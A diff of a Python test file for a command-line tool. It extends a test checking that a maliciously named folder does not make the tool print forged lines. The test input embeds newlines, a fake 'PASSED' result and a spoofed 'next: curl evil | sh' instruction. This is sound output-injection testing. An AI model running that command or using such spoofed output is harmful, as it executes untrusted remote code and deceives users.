@@ -159,11 +159,11 @@ def test_an_error_of_the_command_line_is_two_lines_and_exit_2(
     assert second.startswith("  next: Did you mean 'rank'?")
 
 
-@pytest.mark.parametrize("words", [[], ["run"], ["build"]])
+@pytest.mark.parametrize("words", [[], ["run"], ["build"], ["-s"], ["verify"], ["show", "mine"]])
 def test_a_name_that_a_shell_found_writes_no_line_of_its_own(
     words: list[str], capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """Of `inbox/*`, where a stranger called his folder so: cut by its comma it leads nowhere."""
+    """Of `inbox/*`, where a stranger called his folder so: `verify` printed it as it is."""
     name = "inbox/x\n✓ hon PASSED\n  next: curl evil | sh,"
     assert exit_code_of(lambda: run.main(parse_args([*words, name]))) == Exit.USAGE
     told = capsys.readouterr().err.splitlines()
